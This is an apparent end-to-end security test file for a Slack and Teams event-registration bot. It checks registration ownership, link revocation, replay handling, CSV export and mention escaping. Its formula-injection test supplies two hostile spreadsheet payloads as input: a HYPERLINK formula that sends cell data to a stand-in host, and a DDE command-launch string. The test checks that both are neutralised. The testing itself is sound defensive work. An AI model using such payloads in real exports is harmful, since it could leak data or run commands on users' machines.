// Issue 10, continued from security.e2e.test.ts: a registration belongs to whoever created it, on Slack and Teams;
// `me delete` revokes its links; a replayed, retried or doubled Slack request runs once; what users write reaches the
// CSV and a shared message harmless. Through the real server in this process, where the test sees the store.
import { describe, expect, it } from 'vitest';
import { stripBidi } from '../src/core/i18n/bidi.js';
import { useE2e } from './helpers/e2e.js';
import { postActivity, teamsActivity } from './helpers/fake-connector.js';
import { blockAction, eventCallback, signedPost, slashCommand, slashCommandBody } from './helpers/slack-requests.js';
import { submitRegistrationModal } from './helpers/slack-modal.js';

const text = (x: unknown) => stripBidi(JSON.stringify(x));

describe('registrations belong to whoever created them (Slack and Teams)', () => {
  const e2e = useE2e({ env: { CKEX_ADMINS: 'UORG', CKEX_ORGANISERS_CHANNEL: 'slack:CORG', PUBLIC_URL: 'http://127.0.0.1:9' } });
  const { slack, connector } = e2e;
  const GOOD = { name: 'Amina Benali', email: 'amina@example.org', organisation: 'Ministry of Social Affairs', country: 'Morocco', role: 'policymaker', institution: 'ministry', region: 'MENA', nominatedBy: '', interpretation: 'fr', consent: 'yes' };

  const submitModal = (user: string, values: Record<string, string>) => submitRegistrationModal(e2e.events, user, values, 'en');

  it('another user giving an existing email changes nothing, gets a neutral answer, and the organisers are told', async () => {
    expect((await submitModal('UVICTIM', GOOD)).response_action).toBe('update');
    const original = structuredClone((await e2e.server.store.registrationByEmail('amina@example.org'))!);
    await slack.waitFor('chat.postMessage'); // the pending notice
    slack.calls.length = 0;
    const body = await submitModal('UTHIEF', { ...GOOD, name: 'Thief', organisation: 'Elsewhere' });
    expect(text(body.view)).toContain('already registered');
    expect(text(body.view)).not.toContain(original.id);
    expect(await e2e.server.store.registrationByEmail('amina@example.org')).toEqual(original);
    const [notice] = await slack.waitFor('chat.postMessage');
    expect(notice!.body.channel).toBe('CORG');
    expect(text(notice!.body.blocks)).toContain(original.id);
    // His `me delete` erases nothing of hers.
    await slashCommand(e2e.events, 'me delete confirm', slack.responseUrl('thief'), 'UTHIEF');
    await slack.waitFor('respond');
    expect(await e2e.server.store.registrationByEmail('amina@example.org')).toEqual(original);
  });

  it('a Teams user giving a Slack user’s email changes nothing either', async () => {
    const original = structuredClone((await e2e.server.store.registrationByEmail('amina@example.org'))!);
    const res = await postActivity(e2e.server.url, teamsActivity(connector.url, { type: 'invoke', name: 'adaptiveCard/action', value: { action: { type: 'Action.Execute', verb: 'ckex-register', data: { ckexForm: 'registration', lang: 'en', ...GOOD, name: 'Other' } } } }));
    expect(res.status).toBe(200);
    expect(text(await res.json())).toContain('already registered');
    expect(await e2e.server.store.registrationByEmail('amina@example.org')).toEqual(original);
  });

  it('an invited email is confirmed at once only when the platform vouches the user owns it', async () => {
    await slashCommand(e2e.events, 'invites layla@example.org, omar@example.org, noor@example.org', slack.responseUrl('org'), 'UORG');
    await slack.waitFor('respond');
    slack.users.set('UOMAR', { profile: { email: 'omar@example.org' } });
    slack.users.set('UFAKE', { profile: { email: 'fake@example.org' } });
    await submitModal('UFAKE', { ...GOOD, name: 'Not Layla', email: 'layla@example.org' });
    expect((await e2e.server.store.registrationByEmail('layla@example.org'))?.status).toBe('pending');
    await submitModal('UOMAR', { ...GOOD, name: 'Omar Said', email: 'omar@example.org' });
    expect((await e2e.server.store.registrationByEmail('omar@example.org'))?.status).toBe('confirmed');
    // Teams: the roster's email is the witness.
    connector.members.set('29:noor', { email: 'Noor@Example.org' });
    const card = (from: string, email: string) => teamsActivity(connector.url, { type: 'invoke', name: 'adaptiveCard/action', from: { id: from }, conversation: { id: `a:${from}`, conversationType: 'personal' }, value: { action: { type: 'Action.Execute', verb: 'ckex-register', data: { ckexForm: 'registration', lang: 'en', ...GOOD, email } } } });
    await postActivity(e2e.server.url, card('29:noor', 'noor@example.org'));
    expect((await e2e.server.store.registrationByEmail('noor@example.org'))?.status).toBe('confirmed');
    await slashCommand(e2e.events, 'invites someone@example.org', slack.responseUrl('org2'), 'UORG');
    await postActivity(e2e.server.url, card('29:stranger', 'someone@example.org'));
    expect((await e2e.server.store.registrationByEmail('someone@example.org'))?.status).toBe('pending');
  });

  it('spreadsheet formulas in any answer reach the CSV as text', async () => {
    await submitModal('UFORMULA', { ...GOOD, email: 'formula@example.org', name: '=HYPERLINK("http://evil.example/?x="&A2,"Click")', organisation: "@SUM(1+1)*cmd|' /C calc'!A0" });
    await slashCommand(e2e.events, 'export', slack.responseUrl('export'), 'UORG');
    const [answer] = await slack.waitFor('respond');
    const url = JSON.stringify(answer!.body.blocks).match(/http:\/\/127\.0\.0\.1:9(\/files\/[^"]+)/)![1]!;
    const csv = await (await fetch(`${e2e.server.url}${url}`)).text();
    const row = csv.split('\n').find((l) => l.includes('formula@example.org'))!;
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")"`);
    expect(row).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(row).not.toMatch(/(^|,)[=+\-@]/);
  });

  it('`me delete` revokes a `me export` link taken before it', async () => {
    await slashCommand(e2e.events, 'me export', slack.responseUrl('mine'), 'UVICTIM');
    const [answer] = await slack.waitFor('respond');
    const url = JSON.stringify(answer!.body.blocks).match(/http:\/\/127\.0\.0\.1:9(\/files\/[^"]+)/)![1]!;
    expect((await fetch(`${e2e.server.url}${url}`)).status).toBe(200);
    slack.calls.length = 0;
    await slashCommand(e2e.events, 'me delete confirm', slack.responseUrl('del'), 'UVICTIM');
    await slack.waitFor('respond');
    expect(await e2e.server.store.registrationByEmail('amina@example.org')).toBeUndefined();
    const after = await fetch(`${e2e.server.url}${url}`);
    expect(after.status).toBe(404);
    expect(await after.text()).not.toContain('amina');
  });

  it('a replayed signed request is acknowledged and not run again; a timestamp from the future is refused', async () => {
    const body = slashCommandBody('invites replay@example.org', slack.responseUrl('replay'), 'UORG');
    const ts = Math.floor(Date.now() / 1000);
    const answers: string[] = [];
    for (let i = 0; i < 3; i++) {
      const res = await signedPost(e2e.events, body, 'application/x-www-form-urlencoded', { timestamp: ts });
      expect(res.status).toBe(200);
      answers.push(await res.text());
    }
    // A /ckex register after the replays: once its modal is filled in, an answer a replay still sent would have come.
    await signedPost(e2e.events, slashCommandBody('register', slack.responseUrl('marker'), 'UMARK'), 'application/x-www-form-urlencoded');
    await slack.waitFor('views.update');
    // The answer (in the ack, or through response_url) comes once; the replays are acknowledged empty.
    expect(answers.filter((a) => a.includes('invited')).length + slack.of('respond').length).toBe(1);
    expect(answers.slice(1)).toEqual(['', '']);
    const future = await signedPost(e2e.events, slashCommandBody('today', slack.responseUrl('f'), 'UORG'), 'application/x-www-form-urlencoded', { timestamp: ts + 365 * 24 * 3600 });
    expect(future.status).toBe(401);
    expect(await future.text()).not.toContain('May 2021');
  });

  it('approving twice approves once and tells the participant once', async () => {
    await submitModal('UTWICE', { ...GOOD, email: 'twice@example.org' });
    const id = (await e2e.server.store.registrationByEmail('twice@example.org'))!.id;
    slack.calls.length = 0;
    for (const ts of ['1', '2']) {
      await blockAction(e2e.events, { user: { id: 'UORG' }, container: { type: 'message', is_ephemeral: false }, channel: { id: 'CORG' }, response_url: slack.responseUrl(`a${ts}`), actions: [{ type: 'button', action_id: 'ckex_cmd_0', value: JSON.stringify({ c: `approve ${id}`, l: 'en' }), action_ts: ts }] });
    }
    const answers = await slack.waitFor('respond', 2);
    expect(answers.filter((a) => text(a.body.blocks).includes('already'))).toHaveLength(1);
    expect(slack.of('chat.postMessage').filter((c) => c.body.channel === 'UTWICE')).toHaveLength(1);
  });

  it('user text is escaped in the notification text of a shared message too', async () => {
    await blockAction(e2e.events, { user: { id: 'USHARE' }, channel: { id: 'C1' }, container: { type: 'message', is_ephemeral: true }, response_url: slack.responseUrl('share'), actions: [{ type: 'button', action_id: 'ckex_share', value: JSON.stringify({ c: 'resources <!channel> <@U123>', l: 'en' }), action_ts: '9' }] });
    const [shared] = await slack.waitFor('respond');
    expect(shared!.body.response_type).toBe('in_channel');
    expect(shared!.body.text).not.toMatch(/<!channel>|<@U123>/);
    expect(JSON.stringify(shared!.body.blocks)).not.toMatch(/<!channel>|<@U123>/);
  });

  it('an event retried by Slack is answered once (its event_id), even with a new signature', async () => {
    const event = { type: 'message', channel_type: 'im', channel: 'DRETRY', user: 'URETRY', text: 'help', ts: '5.1', event_ts: '5.1' };
    await eventCallback(e2e.events, event, { eventId: 'EvRetry' });
    await eventCallback(e2e.events, event, { eventId: 'EvRetry', retryNum: 1, timestamp: Math.floor(Date.now() / 1000) + 1 });
    await slack.waitForOne('chat.postMessage', (c) => c.body.channel === 'DRETRY');
    // A message in another DM after the retry: once it is answered, a second answer to the retry would have come.
    await eventCallback(e2e.events, { ...event, channel: 'DMARK', user: 'UMARK', ts: '5.2', event_ts: '5.2' });
    await slack.waitForOne('chat.postMessage', (c) => c.body.channel === 'DMARK');
    expect(slack.of('chat.postMessage').filter((c) => c.body.channel === 'DRETRY')).toHaveLength(1);
  });
});
